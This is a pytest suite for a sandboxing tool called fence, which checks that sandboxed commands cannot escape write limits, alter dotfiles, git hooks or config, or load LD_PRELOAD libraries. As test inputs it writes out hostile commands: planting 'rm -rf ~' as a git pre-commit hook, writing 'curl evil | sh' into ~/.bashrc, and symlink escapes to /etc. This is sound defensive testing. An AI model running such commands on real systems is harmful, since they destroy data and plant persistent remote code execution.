"""Filesystem tiers and mandatory protections in real sandboxes, as root and as an unprivileged user.

Every case checks the host afterwards (content, absence, quarantine), not
only the exit code.
"""

from __future__ import annotations

import json
import os
import pwd
import shutil
import subprocess
import uuid
from pathlib import Path

import pytest

from conftest import removed_afterwards, session_dir

pytestmark = pytest.mark.sandbox


def _own(fence, *paths: Path) -> None:
    fence.own(*paths)


def _workspace(fence, filesystem: dict | None = None, git: bool = False, **extra) -> Path:
    """A project directory with a fence.json granting writes to it (plus ``filesystem``)."""
    work = fence.workdir()
    if git:
        subprocess.run(["git", "init", "-q", str(work)], check=True)
    fs = {"allowWrite": ["."]}
    fs.update(filesystem or {})
    (work / "fence.json").write_text(json.dumps({"filesystem": fs, "command": {"useDefaults": False}, **extra}))
    _own(fence, work)
    return work


def _put(fence, path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    _own(fence, path)
    return path


def sh(fence, work: Path, script: str, **kw):
    return fence.run("-c", script, cwd=str(work), **kw)


# --- allowWrite ------------------------------------------------------------------------------


def test_write_in_workspace_lands_on_host(fence):
    work = _workspace(fence)
    r = sh(fence, work, "echo 'test content' > allowed.txt && mkdir -p a/b && echo deep > a/b/c")
    assert r.returncode == 0, r.stderr
    assert (work / "allowed.txt").read_text() == "test content\n"
    assert (work / "a/b/c").read_text() == "deep\n"


def test_nothing_writable_without_allow_write(fence):
    work = fence.workdir()
    r = sh(fence, work, "touch inside")
    assert r.returncode != 0 and "Read-only file system" in r.stderr
    assert not (work / "inside").exists()


def test_write_outside_workspace_is_refused(fence):
    work = _workspace(fence)
    outside = Path(f"/var/tmp/fence-outside-{uuid.uuid4().hex}")
    with removed_afterwards(outside, f"{outside}.2", "/etc/fence-test-file"):
        r = sh(fence, work, f"touch {outside}; touch /etc/fence-test-file; touch ../../../../var/tmp/{outside.name}.2")
        assert r.returncode != 0
        assert not outside.exists() and not Path(f"{outside}.2").exists() and not Path("/etc/fence-test-file").exists()


def test_symlink_out_of_workspace_gives_no_write(fence):
    work = _workspace(fence)
    name = f"fence-test-{uuid.uuid4().hex}"
    with removed_afterwards(Path("/etc", name)):
        r = sh(fence, work, f"ln -s /etc escape && echo x > escape/{name}")
        assert r.returncode != 0
        assert not Path("/etc", name).exists()
    assert (work / "escape").is_symlink()  # the link itself was allowed: it is in the workspace


def test_missing_allow_write_paths_do_not_fail(fence):
    work = _workspace(fence, {"allowWrite": [".", "./does-not-exist", "/nonexistent/dir/**", "~/nope*"]})
    r = sh(fence, work, "echo ok")
    assert (r.returncode, r.stdout) == (0, "ok\n"), r.stderr


def test_glob_allow_write_grants_matching_files(fence):
    home = Path(fence.home)
    target = _put(fence, home / f".claude-{uuid.uuid4().hex[:6]}.json", "{}\n")
    other = _put(fence, home / "unrelated.txt", "same\n")
    work = _workspace(fence, {"allowWrite": [".", "~/.claude*"]})
    r = sh(fence, work, f"echo '{{\"x\": 1}}' > {target} ; echo changed > {other}")
    assert target.read_text() == '{"x": 1}\n', r.stderr
    assert other.read_text() == "same\n"


def test_glob_does_not_follow_planted_symlinks_out_of_its_base(fence):
    work = _workspace(fence, {"allowWrite": ["./build/*"]})
    secret = _put(fence, Path(fence.home) / "precious.txt", "keep\n")
    (work / "build").mkdir()
    os.symlink(secret, work / "build" / "link")
    _own(fence, work / "build")
    r = sh(fence, work, f"echo overwritten > {secret}")
    assert r.returncode != 0
    assert secret.read_text() == "keep\n"


def test_tmp_fence_is_writable_and_private(fence):
    work = _workspace(fence)
    name = f"t-{uuid.uuid4().hex}"
    with removed_afterwards(Path("/tmp/fence", name)):
        r = sh(fence, work, f"echo hi > /tmp/fence/{name} && cat /tmp/fence/{name}")
        assert (r.returncode, r.stdout) == (0, "hi\n"), r.stderr
        assert not Path("/tmp/fence", name).exists()


def test_python_multiprocessing_uses_dev_shm(fence):
    work = _workspace(fence)
    script = (
        "import multiprocessing as m\n"
        "if __name__ == '__main__':\n"
        "    with m.Pool(2) as p: print(sum(p.map(abs, [-1, -2, 3])))\n"
        "    l = m.Lock(); l.acquire(); l.release(); print('lock ok')\n"
    )
    _put(fence, work / "mp.py", script)
    r = sh(fence, work, "python3 mp.py")
    assert (r.returncode, r.stdout) == (0, "6\nlock ok\n"), r.stderr


# --- denyWrite / denyRead ---------------------------------------------------------------------


def test_deny_write_wins_over_allow_write(fence):
    work = _workspace(fence, {"denyWrite": ["locked", "frozen.txt"]})
    _put(fence, work / "locked" / "a", "a\n")
    _put(fence, work / "frozen.txt", "cold\n")
    r = sh(fence, work, "echo b > locked/a; touch locked/new; echo warm > frozen.txt; echo ok > free.txt")
    assert r.stderr.count("Read-only file system") == 3, r.stderr
    assert (work / "locked" / "a").read_text() == "a\n" and not (work / "locked" / "new").exists()
    assert (work / "frozen.txt").read_text() == "cold\n"
    assert (work / "free.txt").read_text() == "ok\n"


def test_deny_read_wins_over_allow_write_and_deny_write(fence):
    work = _workspace(fence, {"denyRead": ["secret", "key.txt"], "denyWrite": ["secret", "key.txt"]})
    _put(fence, work / "secret" / "s", "TOP SECRET\n")
    _put(fence, work / "key.txt", "KEY\n")
    r = sh(fence, work, "cat secret/s; cat key.txt; ls secret; echo x > secret/new; echo done")
    assert "TOP SECRET" not in r.stdout and "KEY" not in r.stdout
    assert not (work / "secret" / "new").exists()
    assert (work / "key.txt").read_text() == "KEY\n"


# --- read isolation -----------------------------------------------------------------------------


def test_default_deny_read_hides_home_keeps_system(fence):
    home = Path(fence.home)
    _put(fence, home / ".zshrc", "HOME SECRET\n")
    work = _workspace(fence, {"defaultDenyRead": True, "allowRead": ["."]})
    _put(fence, work / "mine.txt", "readable\n")
    r = sh(fence, work, f"cat mine.txt; head -1 /etc/passwd; cat {home}/.zshrc; echo written > out.txt")
    assert "readable" in r.stdout and "root:" in r.stdout
    assert "HOME SECRET" not in r.stdout
    assert (work / "out.txt").read_text() == "written\n"


def test_strict_deny_read_drops_system_paths(fence):
    work = _workspace(fence, {"strictDenyRead": True, "allowRead": [".", "/usr", "/lib", "/lib64", "/bin", "/sbin"]})
    r = sh(fence, work, "cat /etc/hostname; ls /etc | head -3; echo alive")
    assert r.stdout.strip().endswith("alive"), r.stderr
    assert r.stdout.strip() == "alive"


def test_allow_execute_runs_without_listing(fence):
    tools = fence.workdir()
    _put(fence, tools / "hello", "#!/bin/sh\necho hello from tool\n")
    os.chmod(tools / "hello", 0o755)
    work = _workspace(fence, {"defaultDenyRead": True, "allowRead": ["."], "allowExecute": [str(tools)]})
    r = sh(fence, work, f"{tools}/hello; ls {tools} && echo LISTED")
    assert "hello from tool" in r.stdout, r.stderr
    if "landlock-v" in fence.run("-d", "-c", "true", cwd=str(work)).stderr:
        assert "LISTED" not in r.stdout


# --- mandatory protection -----------------------------------------------------------------------


def test_existing_shell_rc_in_workspace_is_protected(fence):
    work = _workspace(fence)
    rc = _put(fence, work / ".bashrc", "# original\n")
    r = sh(
        fence, work, "echo evil >> .bashrc; echo evil > t && mv t .bashrc; rm .bashrc; ln .bashrc hl && echo evil >> hl"
    )
    assert r.returncode != 0
    assert rc.read_text() == "# original\n"


def test_git_hooks_and_config_are_protected(fence):
    work = _workspace(fence, git=True)
    config = (work / ".git" / "config").read_text()
    r = sh(
        fence,
        work,
        "echo 'rm -rf ~' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; "
        "echo '[core] fsmonitor = evil' >> .git/config; git config core.hooksPath /tmp/h",
    )
    assert r.returncode != 0
    assert not (work / ".git" / "hooks" / "pre-commit").exists()
    assert (work / ".git" / "config").read_text() == config


def test_allow_git_config_permits_git_config_only(fence):
    work = _workspace(fence, {"allowGitConfig": True}, git=True)
    r = sh(fence, work, "git config user.name sandboxed && echo hook > .git/hooks/post-checkout")
    assert "sandboxed" in (work / ".git" / "config").read_text(), r.stderr
    assert not (work / ".git" / "hooks" / "post-checkout").exists()


def test_git_dir_cannot_be_renamed_or_rebuilt(fence):
    work = _workspace(fence, git=True)
    r = sh(
        fence,
        work,
        "mv .git .git-away; rm -rf .git; git init -q . ; mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
    )
    assert r.returncode != 0
    assert not (work / ".git-away").exists()
    assert not (work / ".git" / "hooks" / "pre-commit").exists()
    assert (work / ".git" / "HEAD").exists()


def test_git_still_works_in_a_protected_repository(fence):
    work = _workspace(fence, git=True)
    r = sh(
        fence,
        work,
        "echo a > a && git add a && git -c user.name=t -c user.email=t@x commit -qm one && git log --oneline | wc -l",
    )
    assert (r.returncode, r.stdout.strip()) == (0, "1"), r.stderr


def test_missing_hooks_directory_cannot_be_filled(fence):
    work = _workspace(fence, git=True)
    shutil.rmtree(work / ".git" / "hooks")
    r = sh(fence, work, "mkdir .git/hooks && echo evil > .git/hooks/pre-commit && echo ok > .git/hooks/x.sample")
    assert r.returncode == 0, r.stderr
    assert not (work / ".git" / "hooks" / "pre-commit").exists()
    assert (work / ".git" / "hooks" / "x.sample").exists()  # samples are never run
    assert "protected path" in r.stderr and "pre-commit" in r.stderr


def test_core_hooks_path_directory_is_protected(fence):
    work = _workspace(fence, git=True)
    with open(work / ".git" / "config", "a") as f:
        f.write("[core]\n\thooksPath = myhooks\n")
    _put(fence, work / "myhooks" / "README", "hooks\n")
    r = sh(fence, work, "echo evil > myhooks/pre-commit")
    assert r.returncode != 0
    assert not (work / "myhooks" / "pre-commit").exists()


def test_worktree_and_submodule_git_dirs_are_protected(fence):
    top = fence.workdir()
    main = top / "main"
    subprocess.run(["git", "init", "-q", str(main)], check=True)
    subprocess.run(
        [
            "git",
            "-C",
            str(main),
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@x",
            "commit",
            "-q",
            "--allow-empty",
            "-m",
            "init",
        ],
        check=True,
    )
    subprocess.run(["git", "-C", str(main), "worktree", "add", "-q", str(top / "wt")], check=True)
    modules = main / ".git" / "modules" / "lib"
    subprocess.run(["git", "init", "-q", "--bare", str(modules)], check=True)
    (top / "fence.json").write_text(json.dumps({"filesystem": {"allowWrite": [str(top)]}}))
    _own(fence, top)
    r = sh(
        fence,
        top / "wt",
        f"echo evil > {main}/.git/hooks/pre-push; echo evil > {modules}/hooks/pre-push; "
        f"echo 'gitdir: /tmp/elsewhere' > .git; echo ok > wt-file",
        env=fence.env(),
    )
    assert not (main / ".git" / "hooks" / "pre-push").exists()
    assert not (modules / "hooks" / "pre-push").exists()
    gitfile = (top / "wt" / ".git").read_text()
    assert gitfile.startswith("gitdir: ") and "elsewhere" not in gitfile
    assert (top / "wt" / "wt-file").read_text() == "ok\n", r.stderr


def test_nested_projects_are_protected(fence):
    work = _workspace(fence)
    subprocess.run(["git", "init", "-q", str(work / "pkg" / "inner")], check=True)
    _put(fence, work / "pkg" / "inner" / ".vscode" / "tasks.json", "{}\n")
    _own(fence, work)
    r = sh(
        fence, work, "echo evil > pkg/inner/.git/hooks/pre-commit; echo '{\"evil\":1}' > pkg/inner/.vscode/tasks.json"
    )
    assert r.returncode != 0
    assert not (work / "pkg" / "inner" / ".git" / "hooks" / "pre-commit").exists()
    assert (work / "pkg" / "inner" / ".vscode" / "tasks.json").read_text() == "{}\n"


def test_created_dangerous_files_are_quarantined(fence):
    work = _workspace(fence)
    r = sh(
        fence,
        work,
        "echo '{}' > .mcp.json && mkdir -p .claude/commands && echo y > .claude/commands/evil.md "
        "&& echo ok > fine.txt && ! echo x > .vscode/tasks.json",
    )
    assert r.returncode == 0, r.stderr
    assert "Read-only file system" in r.stderr  # .vscode: reserved as an empty read-only directory
    assert not (work / ".vscode").exists() and not list(work.glob(".vscode.fence-quarantine-*"))
    for name in (".mcp.json", ".claude/commands"):
        assert not (work / name).exists(), name
        quarantined = list((work / name).parent.glob(Path(name).name + ".fence-quarantine-*"))
        assert len(quarantined) == 1, name
    assert "created protected path" in r.stderr
    assert (work / "fine.txt").read_text() == "ok\n"


def test_fence_config_cannot_be_written_or_created(fence):
    work = _workspace(fence)
    sub = work / "sub"
    sub.mkdir()
    _own(fence, sub)
    before = (work / "fence.json").read_text()
    r = sh(
        fence,
        sub,
        'echo \'{"filesystem":{"allowWrite":["/"]}}\' > ../fence.json; '
        "echo '{}' > fence.jsonc; echo '{}' > ../fence.jsonc; true",
    )
    assert (work / "fence.json").read_text() == before
    assert not (sub / "fence.jsonc").exists() and not (work / "fence.jsonc").exists(), r.stderr


def test_home_files_and_user_config_are_protected(fence):
    home = Path(fence.home)
    rc = _put(fence, home / ".bashrc", "# mine\n")
    user_cfg = _put(fence, home / ".config" / "fence" / "fence.json", "{}\n")
    (home / ".bash_profile").unlink(missing_ok=True)
    work = _workspace(fence, {"allowWrite": [".", "~"]})
    r = sh(
        fence,
        work,
        "echo evil >> ~/.bashrc; echo '{\"x\":1}' > ~/.config/fence/fence.json; "
        "echo evil > ~/.bash_profile; echo ok > ~/ok.txt",
    )
    assert rc.read_text() == "# mine\n"
    assert user_cfg.read_text() == "{}\n"
    assert not (home / ".bash_profile").exists()
    assert (home / "ok.txt").read_text() == "ok\n", r.stderr


def test_symlinked_gitconfig_does_not_break_startup(fence):
    home = Path(fence.home)
    link = home / ".gitconfig"
    if link.exists() or link.is_symlink():
        link.unlink()
    os.symlink("/proc/version", link)
    try:
        work = _workspace(fence, {"allowWrite": [".", "~"]})
        r = sh(fence, work, "echo ok")
        assert (r.returncode, r.stdout) == (0, "ok\n"), r.stderr
    finally:
        link.unlink()


# --- environment repair ---------------------------------------------------------------------------


def test_tmpdir_and_xdg_runtime_dir_repaired(fence):
    work = _workspace(fence)
    env = fence.env(TMPDIR="/nonexistent/tmp", XDG_RUNTIME_DIR="/run/user/424242")
    r = sh(
        fence,
        work,
        'echo "$TMPDIR"; echo "$XDG_RUNTIME_DIR"; stat -c %a "$XDG_RUNTIME_DIR"; '
        'touch "$XDG_RUNTIME_DIR/sock" && echo usable',
        env=env,
    )
    lines = r.stdout.split()
    assert lines[0] == "/tmp" and lines[1].startswith("/tmp/fence-runtime-") and lines[2] == "700", r.stdout
    assert lines[3] == "usable"


def test_writable_tmpdir_is_kept(fence):
    work = _workspace(fence)
    env = fence.env(TMPDIR=str(work))
    r = sh(fence, work, 'echo "$TMPDIR"', env=env)
    assert r.stdout.strip() == str(work)


# --- devices ----------------------------------------------------------------------------------------


@pytest.mark.skipif(not os.path.exists("/dev/loop-control"), reason="needs a host device outside the minimal set")
@pytest.mark.parametrize(
    "devices,visible", [({}, False), ({"mode": "host"}, True), ({"allow": ["/dev/loop-control"]}, True)]
)
def test_device_modes(fence, devices, visible):
    work = fence.workdir()
    (work / "fence.json").write_text(json.dumps({"devices": devices}))
    r = sh(fence, work, "test -e /dev/loop-control && echo yes || echo no; test -c /dev/null && echo null")
    assert r.stdout.split() == ["yes" if visible else "no", "null"], r.stderr


def test_dev_mem_is_not_readable(fence):
    r = fence.run("-c", "head -c1 /dev/mem")
    assert r.returncode != 0


# --- LD_* stripping with a real library ----------------------------------------------------------


@pytest.fixture(scope="module")
def preload_library(tmp_path_factory):
    cc = shutil.which("cc") or shutil.which("gcc")
    if not cc:
        pytest.skip("no C compiler to build the LD_PRELOAD probe")
    d = session_dir("fence-preload-")
    src = d / "probe.c"
    # says so only inside a sandbox: fence itself, on the host, may load it (that is the user's own env)
    src.write_text(
        "#include <stdlib.h>\n#include <unistd.h>\n__attribute__((constructor)) static void hello(void) "
        '{ if (getenv("FENCE_SANDBOX") || getenv("PROBE_ANYWHERE")) write(2, "PRELOADED\\n", 10); }\n'
    )
    lib = d / "probe.so"
    subprocess.run([cc, "-shared", "-fPIC", "-o", str(lib), str(src)], check=True)
    os.chmod(d, 0o755)
    os.chmod(lib, 0o755)
    yield lib
    shutil.rmtree(d, ignore_errors=True)


def test_ld_preload_library_is_never_loaded(fence, preload_library):
    probe = subprocess.run(
        ["/bin/true"], env={"LD_PRELOAD": str(preload_library), "PROBE_ANYWHERE": "1"}, capture_output=True, text=True
    )
    assert "PRELOADED" in probe.stderr  # the probe works on the host
    work = _workspace(fence)
    env = fence.env(LD_PRELOAD=str(preload_library), LD_AUDIT=str(preload_library))
    r = fence.run("-d", "-c", "/bin/true; echo done", cwd=str(work), env=env)
    assert r.returncode == 0 and "done" in r.stdout
    assert "PRELOADED" not in r.stderr
    assert "[fence] Stripped dangerous env vars: [LD_AUDIT LD_PRELOAD]" in r.stderr


def test_init_helper_passes_the_environment_unchanged(fence):
    """Python's C-locale coercion adds LC_CTYPE to its own environ; the command must not inherit that."""
    work = _workspace(fence)  # writable: the init helper (Landlock) runs
    env = {k: v for k, v in fence.env().items() if not k.startswith(("LANG", "LC_"))}
    r = fence.run("-d", "--", "env", cwd=str(work), env=env)
    assert "landlock-v" in r.stderr or "landlock(unavailable)" in r.stderr
    assert "LC_CTYPE" not in r.stdout and "FENCE_SANDBOX=1" in r.stdout


@pytest.fixture(scope="module")
def other_filesystem():
    """A tmpfs mounted under /var/tmp (this session's root): a writable path on another filesystem."""
    if os.geteuid() != 0:
        pytest.skip("mounting a test filesystem needs root")
    point = session_dir("fence-otherfs-")
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=8m,mode=0777", "tmpfs", str(point)]).returncode:
        point.rmdir()
        pytest.skip("cannot mount a tmpfs here")
    try:
        yield point
    finally:
        subprocess.run(["umount", "-l", str(point)])
        point.rmdir()


@pytest.mark.parametrize("deny_read", [False, True])
def test_allow_write_on_another_filesystem(fence, other_filesystem, deny_read):
    target = other_filesystem / f"{fence.name}-{uuid.uuid4().hex[:6]}"
    target.mkdir()
    _own(fence, target)
    fs: dict[str, object] = {"allowWrite": [".", str(target)]}
    if deny_read:
        fs.update(defaultDenyRead=True, allowRead=["."])
    work = _workspace(fence, fs)
    r = sh(fence, work, f"echo across > {target}/f && cat {target}/f && touch {other_filesystem}/outside-{fence.name}")
    assert (target / "f").read_text() == "across\n", r.stderr
    assert not (other_filesystem / f"outside-{fence.name}").exists()


def test_protected_symlink_cannot_be_replaced(fence):
    """A dotfile manager's ~/.bashrc -> dotfiles/bashrc: the target is read-only, and a replaced link is
    moved aside and restored after the run."""
    home = Path(fence.home)
    dotfiles = home / f"dotfiles-{uuid.uuid4().hex[:6]}"
    real = _put(fence, dotfiles / "bashrc", "# managed\n")
    link = home / ".bashrc"
    link.unlink(missing_ok=True)
    os.symlink(real, link)
    os.lchown(link, *((pwd.getpwnam(fence.user).pw_uid, pwd.getpwnam(fence.user).pw_gid) if fence.user else (0, 0)))
    try:
        work = _workspace(fence, {"allowWrite": [".", "~"]})
        r = sh(fence, work, "echo evil >> ~/.bashrc; rm -f ~/.bashrc && echo 'curl evil | sh' > ~/.bashrc; echo done")
        assert "done" in r.stdout, r.stderr
        assert real.read_text() == "# managed\n"
        assert link.is_symlink() and os.readlink(link) == str(real)
        moved = list(home.glob(".bashrc.fence-quarantine-*"))
        assert len(moved) == 1 and moved[0].read_text() == "curl evil | sh\n"
        assert "protected path" in r.stderr
    finally:
        link.unlink(missing_ok=True)
        for stale in home.glob(".bashrc.fence-quarantine-*"):
            stale.unlink()


def test_writable_sources_are_pinned_and_never_reach_the_command(fence):
    """allowWrite binds go through --bind-fd (a swap to a symlink after the check cannot redirect them);
    bwrap closes those fds, so the command holds no handle on host directories."""
    work = _workspace(fence, git=True)
    r = fence.run("-d", "--", "python3", "-c", "import os; print(sorted(os.listdir('/proc/self/fd')))", cwd=str(work))
    assert r.stdout.strip() == "['0', '1', '2', '3']", r.stdout + r.stderr
    sandboxed = next(line for line in r.stderr.splitlines() if line.startswith("[fence] Sandboxed command:"))
    assert f" {work} " in sandboxed and "--bind-fd" in sandboxed and f"--bind {work} {work}" not in sandboxed


def test_pin_refuses_a_path_that_is_not_what_was_checked(tmp_path):
    from fence.executor.fsfacts import FsError, pin

    real = tmp_path / "real"
    real.mkdir()
    (tmp_path / "link").symlink_to(real)
    fds = pin([str(real)])
    try:
        assert os.readlink(f"/proc/self/fd/{fds[str(real)]}") == str(real) and fds[str(real)] >= 10
    finally:
        for fd in fds.values():
            os.close(fd)
    with pytest.raises(FsError, match="changed while fence was checking it"):
        pin([str(tmp_path / "link")])  # not canonical any more: what would be bound is elsewhere
    with pytest.raises(FsError, match="cannot open"):
        pin([str(tmp_path / "gone")])
